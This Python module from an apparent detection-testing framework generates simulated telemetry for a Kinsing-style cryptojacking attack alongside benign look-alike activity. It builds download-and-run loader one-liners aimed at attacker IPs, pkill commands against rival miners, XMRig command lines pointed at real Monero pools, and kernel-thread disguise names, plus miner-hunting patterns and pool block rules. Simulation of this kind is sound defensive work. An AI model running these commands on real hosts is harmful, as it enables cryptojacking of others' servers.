"""Kinsing-style web compromise (T1190 -> T1105 -> T1496): remote code execution in a
web-facing application makes its worker run a one-liner that downloads a shell loader
from a bare IP address into a world-writable directory, marks it executable and runs
it; the loader clears away competing miners, fetches an XMRig-based miner under a name
that imitates a kernel thread or a system daemon, and keeps it running against a
Monero pool.

Per instance: the host and the worker that is exploited (gunicorn or node as www-data on
a web server, java as app on the application server), the download server (and, half of
the time, a second server for the miner) and its port, the HTTP client the one-liner
uses and the one the loader uses (curl, wget, BusyBox wget or a Python urllib
one-liner), how the loader is made executable and run, the directories and names of
the loader and the miner (hidden names, the X11/ICE socket directories, /tmp, /var/tmp,
/dev/shm), the competitors the loader kills, the pool (a public Monero pool on one of
its stratum ports, or a proxy on the attacker's own address), plain or TLS, with or
without a stratum scheme, the wallet and rig name, the XMRig option style (short, long
with `=`, long with a space) and its extra flags, and how often the miner is
(re)started.

Look-alikes: the web apps shelling out to media and document tools that work in /tmp,
fetching remote content (avatars, exchange rates, signing keys, internal exports by
private address) into /tmp with curl or wget, and cleaning /tmp up from cron;
administrators downloading installers from vendor sites and hosts fetching artefacts
from the internal mirror by private address; the security team hunting for miners by
name and pool, the network team blocking mining pools, and everyday tools started with
`-o`/`-u`/`-p` options.
"""

from __future__ import annotations

import datetime as dt
import random

from pytest_ctirealm.telemetry.campaign import Instance
from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.environment import LINUX_HOSTS
from pytest_ctirealm.telemetry.linux import Process
from pytest_ctirealm.telemetry.scenarios.base import Stages, Timeline, incident_start, scenario
from pytest_ctirealm.telemetry.scenarios.linux.common import (
    BASH,
    PYTHON,
    SH,
    LookalikeFamily,
    http_url,
    linux_hosts,
    register_lookalikes,
    root_session,
    webshell,
)

CAMPAIGN = "kinsing_web_compromise"

#: Where loaders and miners are written: world-writable directories, the socket
#: directories X11 and ICE keep there, and hidden directories made to look like them.
_DIRECTORIES = (
    "/tmp",
    "/var/tmp",
    "/dev/shm",
    "/tmp/.ICE-unix",
    "/tmp/.X11-unix",
    "/tmp/.font-unix",
    "/tmp/.XIM-unix",
    "/var/tmp/.systemd-private",
    "/var/tmp/.cache",
    "/dev/shm/.udev",
    "/dev/shm/.pulse",
)
#: Directories the system itself keeps (the loader need not create them).
_EXISTING = frozenset(_DIRECTORIES[:7])
#: The loader on the server, and as it is saved locally.
_LOADER_REMOTE = ("d.sh", "lh.sh", "s.sh", "i.sh", "x.sh", "wb.sh", "ldr.sh", "cr.sh", "t.sh")
_LOADER_LOCAL = (
    "x11-lock",
    "ice-sock",
    "dbus-cache",
    "sysupdate",
    "netcheck",
    "journal-sync",
    "apt-helper",
    "cron-update",
    "lock-helper",
    "font-cache",
)
#: Miner names that imitate kernel threads and system daemons.
_MINER_NAMES = (
    "kswapd0",
    "kworkerds",
    "kthreaddi",
    "ksoftirqds",
    "kdevtmpfsd",
    "kauditd0",
    "khugepageds",
    "kblockd0",
    "migrationd",
    "irqbalanced",
    "rcu_gpd",
    "kintegrityd0",
    "watchdogd",
    "jbd2-sync",
)
_MINER_REMOTE = ("x86_64", "amd64", "xm64", "lm", "sys", "kd", "bin", "m")
_HTTP_PORTS = (80, 80, 80, 8080, 8000, 8888, 5000, 81, 3000)
#: Public Monero pools: host -> (port, TLS).
_POOLS: dict[str, tuple[tuple[int, bool], ...]] = {
    "pool.supportxmr.com": ((3333, False), (5555, False), (7777, False), (9000, True), (443, True)),
    "gulf.moneroocean.stream": ((10128, False), (10032, False), (20128, True)),
    "xmr.2miners.com": ((2222, False), (12222, True)),
    "xmr-eu1.nanopool.org": ((14444, False), (14433, True)),
    "pool.hashvault.pro": ((3333, False), (443, True)),
    "xmr.f2pool.com": ((13531, False),),
}
#: Ports a mining proxy on the attacker's own server listens on: (port, TLS).
_PROXY_PORTS: tuple[tuple[int, bool], ...] = (
    (3333, False),
    (443, True),
    (8080, False),
    (14444, False),
    (5555, False),
    (7777, False),
    (80, False),
    (8443, True),
)
_COMPETITORS = (
    "xmrig",
    "kinsing",
    "xmr-stak",
    "minerd",
    "networkservice",
    "sysguard",
    "kthreaddk",
    "dbused",
    "solr.sh",
    "watchbog",
)
_BASE58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
_OPTION_STYLES = ("short", "long_eq", "long_space")


def _fetch(tool: str, url: str, path: str) -> tuple[str, str, str]:
    """An HTTP client saving *url* as *path*: as a shell line types it, as Defender
    records the process (argv joined by spaces), and its image."""
    if tool == "python":
        code = f"import urllib.request;urllib.request.urlretrieve('{url}','{path}')"
        return f'python3 -c "{code}"', f"python3 -c {code}", PYTHON
    forms = {
        "curl": (f"curl -fsSL {url} -o {path}", "/usr/bin/curl"),
        "curl_silent": (f"curl -s -o {path} {url}", "/usr/bin/curl"),
        "wget": (f"wget -q {url} -O {path}", "/usr/bin/wget"),
        "wget_short": (f"wget -qO {path} {url}", "/usr/bin/wget"),
        "busybox": (f"busybox wget -q {url} -O {path}", "/usr/bin/busybox"),
    }
    command, image = forms[tool]
    return command, command, image


def _wallet(rng: random.Random) -> str:
    """A Monero address: 95 base58 characters starting with 4."""
    return "4" + rng.choice("0123456789AB") + "".join(rng.choice(_BASE58) for _ in range(93))


def _option(style: str, short: str, long: str, value: str) -> str:
    if style == "short" and short:
        return f"{short} {value}"
    return f"{long}={value}" if style == "long_eq" else f"{long} {value}"


def _miner_commands(instance: Instance, path: str, rig: str) -> list[str]:
    """The miner's command lines: the primary pool and, sometimes, a fallback used on
    restarts. Every form carries the pool URL, the login and XMRig tuning options."""
    style = instance.pick("option_style", _OPTION_STYLES)
    wallet = instance.keep("wallet", _wallet(instance.rng))
    endpoints = []
    if instance.chance(0.35):
        proxy = instance.attacker_ip("proxy_ip")
        port, tls = instance.pick("proxy_port", _PROXY_PORTS)
        endpoints.append((proxy, port, tls))
    pools = instance.sample("pools", sorted(_POOLS), 2)
    for pool in pools:
        port, tls = instance.rng.choice(_POOLS[pool])
        endpoints.append((pool, port, tls))
    endpoints = endpoints[: 1 + instance.chance(0.5)]
    user = instance.pick("login", (wallet, f"{wallet}.{rig}", wallet))
    password = instance.pick("password", ("x", rig, "x"))
    donate = instance.pick("donate_level", ("0", "1"))
    markers = {
        "donate": _option(style, "", "--donate-level", donate),
        "algo": _option(style, "-a", "--algo", "rx/0"),
        "coin": _option(style, "", "--coin", "monero"),
        "priority": _option(style, "", "--cpu-priority", instance.pick("priority", ("0", "1"))),
        "threads_hint": _option(
            style, "", "--cpu-max-threads-hint", str(instance.pick("hint", (50, 75, 90)))
        ),
        "hugepages": "--randomx-1gb-pages",
    }
    chosen = instance.sample("tuning", sorted(markers), instance.between(1, 3))
    extras = {
        "background": "-B" if style == "short" else "--background",
        "keepalive": "-k" if style == "short" else "--keepalive",
        "threads": _option(style, "-t", "--threads", str(instance.pick("threads", (1, 2, 3)))),
        "no_color": "--no-color",
        "print_time": _option(style, "", "--print-time", "60"),
        "log": _option(style, "-l", "--log-file", "/dev/null"),
    }
    others = instance.sample("extras", sorted(extras), instance.between(0, 3))
    commands, urls = [], []
    for host, port, tls in endpoints:
        scheme = instance.rng.choice(("stratum+ssl://", "") if tls else ("stratum+tcp://", ""))
        urls.append(f"{scheme}{host}:{port}")
        parts = [
            _option(style, "-o", "--url", f"{scheme}{host}:{port}"),
            _option(style, "-u", "--user", user),
            _option(style, "-p", "--pass", password),
        ]
        if tls and not scheme:
            parts.append("--tls")
        tail = [markers[m] for m in chosen] + [extras[e] for e in others]
        if "algo" in chosen and instance.chance(0.5):
            parts.insert(0, tail.pop(tail.index(markers["algo"])))
        commands.append(" ".join([path, *parts, *tail]))
    instance.keep("pool_urls", urls)
    return commands


@scenario(
    CAMPAIGN,
    "linux",
    (
        "download",
        "download_file",
        "loader_housekeeping",
        "miner_fetch",
        "miner_file",
        "miner_run",
    ),
)
def kinsing_web_compromise(ctx: SimContext) -> Stages:
    """The worker runs the loader, which clears competitors, fetches and starts a miner."""
    instance = Instance(ctx, CAMPAIGN)
    host = instance.linux_host("host", ("web", "app"))
    worker_name = instance.pick("worker", ("gunicorn", "node") if host.role == "web" else ("java",))
    t = Timeline(ctx, CAMPAIGN, host, incident_start(ctx, "kinsing", (0, 20)))
    worker = t.daemon(worker_name)

    # The injected one-liner: download the loader, make it executable, run it.
    server = instance.attacker_ip("download_ip")
    port = instance.port("download_port", _HTTP_PORTS)
    loader_dir = instance.pick("loader_dir", _DIRECTORIES[:5])
    loader = f"{loader_dir}/." + instance.name_like("loader_name", _LOADER_LOCAL, ("", "", ".sh"))
    url = http_url(server, port, instance.pick("loader_remote", _LOADER_REMOTE))
    typed, fetch, fetch_image = _fetch(
        instance.pick("loader_client", ("curl", "curl_silent", "wget", "busybox", "python")),
        url,
        loader,
    )
    mode = instance.pick("loader_mode", ("+x", "777", "755", "u+x", "a+x"))
    interpreter, image = instance.pick(
        "loader_run",
        (("/bin/bash", BASH), ("bash", BASH), ("sh", SH), ("/bin/sh", SH)),
    )
    joiner = instance.pick("joiner", (" && ", "; "))
    direct = interpreter == "/bin/bash" and joiner == " && "
    run = loader if direct else f"{interpreter} {loader}"
    stager = webshell(t, "download", worker, joiner.join((typed, f"chmod {mode} {loader}", run)))
    client = t.run("download", stager, fetch_image, fetch)
    t.file("download_file", client, "FileCreated", loader, size=instance.between(1_800, 14_000))
    t.run("download", stager, "/usr/bin/chmod", f"chmod {mode} {loader}")
    script = t.run("download", stager, image, f"{interpreter} {loader}", cwd=worker.cwd)

    # The loader clears the ground: its directory, then competing miners.
    miner_dir = instance.pick("miner_dir", _DIRECTORIES)
    if miner_dir not in _EXISTING:
        t.run("loader_housekeeping", script, "/usr/bin/mkdir", f"mkdir -p {miner_dir}")
    for rival in instance.sample("competitors", _COMPETITORS, instance.between(2, 4)):
        t.run("loader_housekeeping", script, "/usr/bin/pkill", f"pkill -9 -f {rival}")

    # ... fetches the miner (from the same server or a second one) and starts it.
    miner = f"{miner_dir}/{instance.pick('miner_name', _MINER_NAMES)}"
    second = instance.attacker_ip("payload_ip") if instance.chance(0.5) else server
    miner_url = http_url(second, port, instance.pick("miner_remote", _MINER_REMOTE))
    _, fetch, fetch_image = _fetch(
        instance.pick("miner_client", ("curl", "wget", "wget_short", "busybox", "python")),
        miner_url,
        miner,
    )
    client = t.run("miner_fetch", script, fetch_image, fetch, after=(2, 10))
    size = instance.between(2_200_000, 8_400_000)
    t.file("miner_file", client, "FileCreated", miner, size=size, after=(2, 6))
    miner_mode = instance.pick("miner_mode", ("+x", "777", "755", "u+x", "700"))
    t.run("miner_fetch", script, "/usr/bin/chmod", f"chmod {miner_mode} {miner}")
    rig = instance.pick("rig", (host.name.removeprefix("vm-"), "x", "w1", "lnx", "srv"))
    commands = _miner_commands(instance, miner, rig)
    # The loader's watchdog restarts the miner when it dies or is killed.
    for index in range(instance.between(2, 4)):
        after = (5, 20) if index == 0 else (60, 1500)
        t.run(
            "miner_run", script, miner, commands[index % len(commands)], after=after, cwd=miner_dir
        )
    return t.stages


# -- look-alikes ---------------------------------------------------------------------------

WEB_HOSTS = linux_hosts("web", "app")
_WORKERS = {"web": ("gunicorn", "node"), "app": ("java",)}


def _web_worker(t: Timeline, rng: random.Random) -> Process:
    return t.daemon(rng.choice(_WORKERS[t.state.host.role]))


def _media_processing(ctx: SimContext, family: LookalikeFamily) -> None:
    """Web workers shell out to document and media tools that work in /tmp."""
    for host, moment in family.moments(2, 6, hosts=WEB_HOSTS):
        t = family.on(host, moment)
        job = f"{family.rng.getrandbits(40):010x}"
        work = f"/tmp/{family.rng.choice(('upload', 'convert', 'render', 'import'))}-{job}"
        tools = (
            (
                f"ffmpeg -nostdin -y -i {work}.mov -vf scale=1280:-2 -c:v libx264 {work}.mp4",
                "/usr/bin/ffmpeg",
            ),
            (
                f"libreoffice --headless --convert-to pdf --outdir {work} {work}/contract.docx",
                "/usr/lib/libreoffice/program/soffice.bin",
            ),
            (f"pdftoppm -png -r 110 -f 1 -l 1 {work}.pdf {work}-thumb", "/usr/bin/pdftoppm"),
            (f"unzip -o -q {work}.zip -d {work}", "/usr/bin/unzip"),
            (
                f"gs -q -dNOPAUSE -dBATCH -sDEVICE=pdfwrite -dPDFSETTINGS=/ebook -o {work}-small.pdf {work}.pdf",
                "/usr/bin/gs",
            ),
            (f"exiftool -all= -overwrite_original {work}.jpg", "/usr/bin/exiftool"),
            (f"tar xzf {work}.tar.gz -C {work}", "/usr/bin/tar"),
        )
        command, image = family.rng.choice(tools)
        sh = t.run("web_media_processing", _web_worker(t, family.rng), SH, f"sh -c {command}")
        t.run("web_media_processing", sh, image, command)


_REMOTE_CONTENT = (
    ("https://www.gravatar.com/avatar/{md5}?s=256&d=identicon", "/tmp/avatar-{md5}.png"),
    ("https://www.ecb.europa.eu/stats/eurofxref/eurofxref-daily.xml", "/tmp/eurofxref-{id}.xml"),
    (
        "https://login.microsoftonline.com/5f3c9a8e-2b71-4d0e-9c63-8a1f4e7b2d90/discovery/v2.0/keys",
        "/tmp/jwks-{id}.json",
    ),
    ("https://images.unsplash.com/photo-{id}?w=1200&fm=jpg", "/tmp/hero-{id}.jpg"),
    ("https://publicsuffix.org/list/public_suffix_list.dat", "/tmp/psl-{id}.dat"),
    ("http://10.1.2.4:8080/api/reports/{id}/export.csv", "/tmp/export-{id}.csv"),
    ("http://10.1.2.4:8080/api/invoices/{id}/attachment", "/var/tmp/attachment-{id}.pdf"),
)


def _remote_fetch(ctx: SimContext, family: LookalikeFamily) -> None:
    """The web apps fetch remote content into /tmp with curl or wget: avatars, exchange
    rates, signing keys, and exports from the internal API by private address."""
    for host, moment in family.moments(2, 5, hosts=WEB_HOSTS):
        t = family.on(host, moment)
        url, path = family.rng.choice(_REMOTE_CONTENT)
        values = {
            "md5": f"{family.rng.getrandbits(128):032x}",
            "id": str(family.rng.randrange(10**5, 10**7)),
        }
        url, path = url.format(**values), path.format(**values)
        if family.rng.random() < 0.5:
            command, image = f"curl -fsSL --max-time 15 -o {path} {url}", "/usr/bin/curl"
        else:
            command, image = f"wget -q -T 15 -O {path} {url}", "/usr/bin/wget"
        sh = t.run("web_remote_fetch", _web_worker(t, family.rng), SH, f"sh -c {command}")
        client = t.run("web_remote_fetch", sh, image, command)
        t.file("web_remote_fetch", client, "FileCreated", path, after=(0.2, 3))


def _tmp_housekeeping(ctx: SimContext, family: LookalikeFamily) -> None:
    """The apps' cron jobs clean up /tmp and tighten permissions on exports."""
    jobs = (
        ("find /tmp -maxdepth 1 -name upload-* -mmin +120 -delete", "/usr/bin/find"),
        ("find /tmp -maxdepth 1 -name invoice-*.pdf -mmin +240 -delete", "/usr/bin/find"),
        ("find /var/tmp -maxdepth 1 -name attachment-* -mtime +1 -delete", "/usr/bin/find"),
        ("rm -rf /tmp/convert-cache", "/usr/bin/rm"),
        ("chmod 600 /tmp/export-latest.csv", "/usr/bin/chmod"),
        ("chmod 640 /var/tmp/attachment-index.json", "/usr/bin/chmod"),
        ("du -sh /tmp/upload-cache", "/usr/bin/du"),
    )
    hosts = family.rng.sample(WEB_HOSTS, family.rng.randint(2, len(WEB_HOSTS)))
    for host in hosts:
        picked = family.rng.sample(jobs, 2)
        for day in ctx.day_range():
            for hour in sorted(family.rng.sample(range(24), family.rng.randint(1, 3))):
                t = family.on(
                    host,
                    ctx.day_start(day)
                    + dt.timedelta(hours=hour, minutes=family.rng.choice((5, 35))),
                )
                command, image = family.rng.choice(picked)
                account = "app" if host.role == "app" else "www-data"
                sh = t.run(
                    "web_tmp_housekeeping", t.daemon("cron"), SH, f"/bin/sh -c {command}", account
                )
                t.run("web_tmp_housekeeping", sh, image, command)


_VENDOR_DOWNLOADS = (
    (
        "https://packages.microsoft.com/config/ubuntu/22.04/packages-microsoft-prod.deb",
        "/tmp/packages-microsoft-prod.deb",
    ),
    (
        "https://github.com/prometheus/node_exporter/releases/download/v1.8.1/node_exporter-1.8.1.linux-amd64.tar.gz",
        "/tmp/node_exporter-1.8.1.linux-amd64.tar.gz",
    ),
    ("https://aka.ms/downloadazcopy-v10-linux", "/tmp/azcopy_linux_amd64.tar.gz"),
    ("https://get.docker.com", "/tmp/get-docker.sh"),
    ("https://aka.ms/InstallAzureCLIDeb", "/tmp/install-azure-cli.sh"),
    (
        "https://github.com/jqlang/jq/releases/download/jq-1.7.1/jq-linux-amd64",
        "/tmp/jq-linux-amd64",
    ),
    (
        "https://releases.hashicorp.com/terraform/1.8.5/terraform_1.8.5_linux_amd64.zip",
        "/tmp/terraform_1.8.5_linux_amd64.zip",
    ),
    (
        "https://github.com/fluent/fluent-bit/archive/refs/tags/v3.0.7.tar.gz",
        "/var/tmp/fluent-bit-3.0.7.tar.gz",
    ),
)


def _admin_downloads(ctx: SimContext, family: LookalikeFamily) -> None:
    """Administrators download installers and tools from vendor sites into /tmp."""
    for t, root in family.root_sessions(family.moments(2, 3)):
        url, path = family.rng.choice(_VENDOR_DOWNLOADS)
        if family.rng.random() < 0.5:
            command, image = f"curl -fsSL -o {path} {url}", "/usr/bin/curl"
        else:
            command, image = f"wget -q {url} -O {path}", "/usr/bin/wget"
        client = t.run("admin_downloads", root, image, command, after=(10, 90))
        t.file("admin_downloads", client, "FileCreated", path, after=(1, 8))
        if path.endswith(".sh"):
            t.run("admin_downloads", root, "/usr/bin/less", f"less {path}", after=(5, 30))
        elif path.endswith((".tar.gz", ".zip")):
            verb = "unzip -o" if path.endswith(".zip") else "tar xzf"
            t.run("admin_downloads", root, f"/usr/bin/{verb.split()[0]}", f"{verb} {path}")


_MIRROR = (
    "http://10.1.0.10:8081/repository/raw-internal/agents/contoso-agent-2.4.1.tar.gz",
    "http://10.1.0.10:8081/repository/raw-internal/certs/contoso-root-ca.pem",
    "http://10.1.0.10:8081/repository/raw-internal/tools/pgbackrest-2.51.tar.gz",
    "http://10.1.4.4:8080/artifacts/portal/{sha}/portal.tar.gz",
    "http://10.1.4.4:8080/artifacts/worker/{sha}/worker.tar.gz",
)


def _mirror_fetch(ctx: SimContext, family: LookalikeFamily) -> None:
    """Hosts fetch artefacts from the internal mirror and the build host by private
    address (a deploy script from cron, or an administrator)."""
    for host, moment in family.moments(2, 4, office=False):
        t = family.on(host, moment)
        url = family.rng.choice(_MIRROR).format(sha=f"{family.rng.getrandbits(28):07x}")
        directory = family.rng.choice(("/tmp", "/var/tmp", "/tmp/deploy"))
        path = f"{directory}/{url.rsplit('/', 1)[-1]}"
        if family.rng.random() < 0.5:
            parent = t.run(
                "internal_mirror_fetch",
                t.daemon("cron"),
                BASH,
                "/bin/bash /usr/local/bin/contoso-deploy-pull.sh",
                "root",
            )
        else:
            parent = root_session(
                t, family.rng.choice(host.admin_users), stage="internal_mirror_fetch"
            )
        if family.rng.random() < 0.5:
            command, image = f"curl -fsS -o {path} {url}", "/usr/bin/curl"
        else:
            command, image = f"wget -q -O {path} {url}", "/usr/bin/wget"
        client = t.run("internal_mirror_fetch", parent, image, command)
        t.file("internal_mirror_fetch", client, "FileCreated", path, after=(0.5, 6))


_HUNTS = (
    ("pgrep -af xmrig|kdevtmpfsi|kinsing|minerd|xmr-stak", "/usr/bin/pgrep"),
    (
        "grep -rlE stratum\\+(tcp|ssl):// /etc/cron.d /var/spool/cron/crontabs /etc/systemd/system",
        "/usr/bin/grep",
    ),
    (
        "find /tmp /var/tmp /dev/shm -maxdepth 2 -type f -name kdevtmpfsi -o -name kinsing -o -name xmrig",
        "/usr/bin/find",
    ),
    ("grep -iE randomx|donate-level|cpu-priority /var/log/syslog", "/usr/bin/grep"),
    ("ps -eo pid,user,pcpu,comm,args --sort=-pcpu", "/usr/bin/ps"),
    ("mdatp threat list", "/usr/bin/mdatp"),
)


def _miner_hunting(ctx: SimContext, family: LookalikeFamily) -> None:
    """The security team's sweep for miners (a cron script on some hosts), and
    administrators hunting by hand after an advisory."""
    swept = family.rng.sample(LINUX_HOSTS, family.rng.randint(2, 4))
    for host in swept:
        for day in ctx.day_range():
            moment = ctx.day_start(day) + dt.timedelta(
                hours=family.rng.choice((2, 3, 4)), minutes=family.rng.randrange(60)
            )
            t = family.on(host, moment)
            sweep = t.run(
                "miner_hunting",
                t.daemon("cron"),
                SH,
                "/bin/sh /usr/local/sbin/coinminer-sweep.sh",
                "root",
            )
            for command, image in _HUNTS[:3]:
                t.run("miner_hunting", sweep, image, command)
    for t, root in family.root_sessions(family.moments(1, 2)):
        for command, image in family.rng.sample(_HUNTS, 3):
            t.run("miner_hunting", root, image, command, after=(5, 60))


_BLOCKS = (
    (
        "iptables -I OUTPUT -p tcp -m multiport --dports 3333,5555,7777,14444 -j REJECT",
        "/usr/sbin/iptables",
    ),
    ("iptables -I OUTPUT -o eth0 -p tcp --dport 10128 -j REJECT", "/usr/sbin/iptables"),
    ("ufw deny out to any port 3333 comment block-stratum", "/usr/sbin/ufw"),
    ("ufw deny out 14444/tcp comment block-nanopool", "/usr/sbin/ufw"),
    ("dig +short pool.supportxmr.com", "/usr/bin/dig"),
    ("dig +short gulf.moneroocean.stream", "/usr/bin/dig"),
    ("nslookup xmr.2miners.com", "/usr/bin/nslookup"),
    ("tee -a /etc/hosts", "/usr/bin/tee"),
    ("grep -c supportxmr|moneroocean|nanopool|hashvault /etc/hosts", "/usr/bin/grep"),
)


def _pool_blocklist(ctx: SimContext, family: LookalikeFamily) -> None:
    """The network team blocks mining pools and stratum ports on the servers and checks
    that the pool names resolve to the sinkhole."""
    for t, root in family.root_sessions(family.moments(1, 2)):
        for command, image in family.rng.sample(_BLOCKS, family.rng.randint(2, 4)):
            t.run("pool_blocklist", root, image, command, after=(5, 60))


_CLIENTS = (
    ("iperf3 -c 10.1.3.4 -p 5201 -t 10 -P 4", "/usr/bin/iperf3"),
    ("redis-cli -h 10.1.2.4 -p 6379 --user portal --pass *** ping", "/usr/bin/redis-cli"),
    (
        "mosquitto_pub -h mqtt.contoso.com -p 8883 -u telemetry -P *** -t fleet/heartbeat -m ok",
        "/usr/bin/mosquitto_pub",
    ),
    (
        "ssh -o ConnectTimeout=5 -o StrictHostKeyChecking=accept-new -p 22 azureuser@10.1.3.4",
        "/usr/bin/ssh",
    ),
    ("ssh -o ProxyJump=azureuser@10.1.0.4:22 azureuser@10.1.2.4", "/usr/bin/ssh"),
    ("psql -h 10.1.3.4 -p 5432 -U portal -d appdb -c select 1", "/usr/lib/postgresql/14/bin/psql"),
    (
        "curl -sS -u ci-reader:*** -o /home/azureuser/portal.tar.gz https://contoso.jfrog.io/artifactory/portal/latest.tar.gz",
        "/usr/bin/curl",
    ),
    ("openssl s_client -connect 10.1.1.4:443 -servername portal.contoso.com", "/usr/bin/openssl"),
)


def _connection_options(ctx: SimContext, family: LookalikeFamily) -> None:
    """Everyday clients started with host, port, user and password options, as a
    miner's pool options are."""
    for host, moment in family.moments(2, 3):
        t = family.on(host, moment)
        user = family.rng.choice(host.admin_users)
        sshd = t.run(
            "connection_options", t.daemon("sshd"), "/usr/sbin/sshd", f"sshd: {user} [priv]", "root"
        )
        login = t.run("connection_options", sshd, BASH, "-bash", user, cwd=f"/home/{user}")
        for command, image in family.rng.sample(_CLIENTS, family.rng.randint(1, 3)):
            t.run("connection_options", login, image, command, after=(5, 120))


_FAMILIES = {
    "web_media_processing": _media_processing,
    "web_remote_fetch": _remote_fetch,
    "web_tmp_housekeeping": _tmp_housekeeping,
    "admin_downloads": _admin_downloads,
    "internal_mirror_fetch": _mirror_fetch,
    "miner_hunting": _miner_hunting,
    "pool_blocklist": _pool_blocklist,
    "connection_options": _connection_options,
}

register_lookalikes(CAMPAIGN, _FAMILIES)
